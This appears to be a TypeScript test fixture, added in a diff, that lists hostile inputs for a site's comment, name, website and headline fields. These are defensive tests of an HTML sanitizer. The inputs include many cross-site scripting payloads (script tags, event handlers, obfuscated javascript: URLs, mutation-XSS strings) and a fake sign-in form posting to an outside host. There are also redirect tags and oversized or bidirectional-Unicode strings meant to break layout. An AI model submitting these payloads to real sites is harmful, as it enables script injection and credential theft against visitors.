@@ -1,0 +1,101 @@
+// What people send who mean harm. `PWN` stands for a script that would leave a mark; `AWAY` for another site.
+const PWN = 'window.__pwned=1'
+const AWAY = 'https://elsewhere.example'
+
+/** Texts to be sent as comments. */
+export const bodies: string[] = [
+  `<script>${PWN}</script>`,
+  `<ScRiPt src="${AWAY}/x.js"></ScRiPt>`,
+  `<scr<script>ipt>${PWN}</scr</script>ipt>`,
+  `<img src=x onerror="${PWN}">`,
+  `<img src="${AWAY}/pixel.gif">`,
+  `<svg onload="${PWN}"><animate onbegin="${PWN}"></svg>`,
+  `<svg><style><img src=x onerror=${PWN}></style></svg>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${PWN}&gt;">`,
+  `<a href="javascript:${PWN}">press</a>`,
+  `<a href="jav&#x09;ascript:${PWN}">press</a>`,
+  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${PWN}">press</a>`,
+  `<a href=" \u0001javascript:${PWN}">press</a>`,
+  `<a href="data:text/html,<script>${PWN}</script>">press</a>`,
+  `<a href="vbscript:msgbox(1)">press</a>`,
+  `<a href="#" onclick="${PWN}" onmouseover="${PWN}" style="position:fixed;inset:0">all of it</a>`,
+  `<b onmouseover=${PWN}>over</b>`,
+  `<b style="font-size:900px;position:fixed;inset:0;background:red">big</b>`,
+  `<em autofocus tabindex=1 onfocus=${PWN}>focus</em>`,
+  `<i id=reply name=comments class="masthead skip">shadow</i>`,
+  `<details open ontoggle=${PWN}>more</details>`,
+  `<video poster="${AWAY}/p.png" onerror="${PWN}"><source onerror="${PWN}"></video>`,
+  `<audio src="${AWAY}/a.mp3" autoplay></audio>`,
+  `<iframe src="javascript:${PWN}"></iframe>`,
+  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
+  `<object data="${AWAY}/o.swf"></object><embed src="${AWAY}/e.swf">`,
+  `<link rel=stylesheet href="${AWAY}/s.css"><style>@import "${AWAY}/i.css"; body{display:none}</style>`,
+  `<style>*{display:none!important}</style>`,
+  `<base href="${AWAY}/"><meta http-equiv=refresh content="0;url=${AWAY}/">`,
+  `<form action="${AWAY}/"><input name=password><button>Sign in</button></form>`,
+  `</form><form action="${AWAY}/">`,
+  `<button formaction="javascript:${PWN}">Post comment</button>`,
+  `<textarea></textarea><title></title><noscript><p title="</noscript><img src=x onerror=${PWN}>">`,
+  `</p></div></li></ol></section></main></body></html><h1>The end</h1>`,
+  '<b><i><strong><em><s><strike><cite><q>never closed',
+  '</b></i></strong></a></blockquote></em>',
+  `<blockquote cite="javascript:${PWN}"><blockquote><blockquote>deep`,
+  `${'<blockquote>'.repeat(500)}deep`,
+  `${'<b>'.repeat(2000)}bold`,
+  `<q cite="${AWAY}/q">quoted</q><del datetime="${'9'.repeat(3000)}">gone</del>`,
+  `<a href="https://a.example" title="${'x'.repeat(5000)}">long title</a>`,
+  `<a href="https://a.example/'onmouseover=${PWN}//">quote</a>`,
+  `<a title='"onmouseover="${PWN}' href='https://a.example'>quote</a>`,
+  `<a href="https://a.example"target=_top rel=opener ping="${AWAY}/ping">ping</a>`,
+  `<a href="//elsewhere.example/x">no scheme</a> <a href="\\\\elsewhere.example">backslash</a>`,
+  `<!--><img src=x onerror=${PWN}>-->`,
+  `<![CDATA[<img src=x onerror=${PWN}>]]>`,
+  `<?php echo 1 ?><%= 1 %>{{constructor.constructor('${PWN}')()}}\${${PWN}}`,
+  `&lt;script&gt;${PWN}&lt;/script&gt;`,
+  `&#60;script&#62;${PWN}&#60;/script&#62;`,
+  `<a/href="javascript:${PWN}"/>x`,
+  `<a href=javascript&colon;${PWN}>colon</a>`,
+  `\u0000<script>\u0000${PWN}</script>`,
+  `<\u0000script>${PWN}</script>`,
+  `＜script＞${PWN}＜/script＞`,
+  'W'.repeat(4000),
+  `https://long.example/${'a'.repeat(3000)}`,
+  `\u202e\u2066\u2067 turned round ${'\u202e'.repeat(200)}`,
+  `Z\u0310\u0311\u0312${'\u0323'.repeat(300)}algo`,
+  '\u200b\u2060\ufeff invisible \u00ad'.repeat(40),
+  '👨‍👩‍👧‍👦'.repeat(400),
+  `${'\n'.repeat(2000)}far below`,
+  'ﷺ'.repeat(300),
+]
+
+/** Names to sign with. */
+export const names: string[] = [
+  `<script>${PWN}</script>`,
+  `"><img src=x onerror=${PWN}>`,
+  `' onmouseover='${PWN}`,
+  '</strong></p></article>',
+  '\u202eevil\u2066',
+  'W'.repeat(80),
+  'Editor\u00a0in\u00a0chief',
+  '&lt;b&gt;',
+]
+
+/** Websites to sign with; those that are none are refused, and sent without. */
+export const sites: string[] = [
+  `javascript:${PWN}`,
+  `data:text/html,<script>${PWN}</script>`,
+  `https://a.example/"onmouseover="${PWN}`,
+  `https://a.example/${'b'.repeat(400)}`,
+  'https://user:password@a.example/',
+  '//elsewhere.example',
+]
+
+/** Headlines, standfirsts and datelines. */
+export const headlines: string[] = [
+  `<script>${PWN}</script>`,
+  `</title><script>${PWN}</script>`,
+  `"><img src=x onerror=${PWN}>`,
+  `</style></head><body onload=${PWN}>`,
+  'Donaudampfschifffahrtsgesellschaftskapitänswitwenrentenauszahlungsstelle'.repeat(2),
+  '\u202eTurned round \u2066',
+]
